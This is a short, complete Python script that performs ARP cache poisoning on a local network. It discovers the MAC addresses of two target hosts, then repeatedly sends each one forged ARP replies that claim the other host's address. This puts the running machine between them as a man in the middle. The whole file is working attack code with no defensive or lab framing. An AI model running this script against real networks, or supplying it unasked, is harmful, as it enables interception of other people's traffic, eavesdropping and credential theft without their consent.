"""Stands between two machines: asks for both, and tells each that it is the other one (RFC 826).

usage: poison.py OWN-ADDRESS ONE OTHER ROUNDS PAUSE-S
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from pathlib import Path

ETHER_ARP, EVERYBODY = 0x0806, b"\xff" * 6


def arp(opcode: int, mac: bytes, ip: str, to_mac: bytes, to_ip: str) -> bytes:
    head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, opcode)
    ends = mac + socket.inet_aton(ip) + (bytes(6) if opcode == 1 else to_mac) + socket.inet_aton(to_ip)
    return to_mac + mac + struct.pack("!H", ETHER_ARP) + head + ends


def asked(line: socket.socket, mac: bytes, own: str, wanted: str) -> bytes:
    """The MAC address of `wanted`."""
    line.send(arp(1, mac, own, EVERYBODY, wanted))
    while True:
        frame = line.recv(2048)
        if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\2" and frame[28:32] == socket.inet_aton(wanted):
            return frame[22:28]


def poison(own: str, one: str, other: str, rounds: int, pause_s: float) -> None:
    mac = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text().strip().replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHER_ARP)) as line:
        line.bind(("eth0", ETHER_ARP))
        line.settimeout(5)
        for _ in range(rounds):
            for whom, as_whom in ((one, other), (other, one)):
                line.send(arp(2, mac, as_whom, asked(line, mac, own, whom), whom))
            time.sleep(pause_s)


if __name__ == "__main__":
    poison(*sys.argv[1:4], int(sys.argv[4]), float(sys.argv[5]))
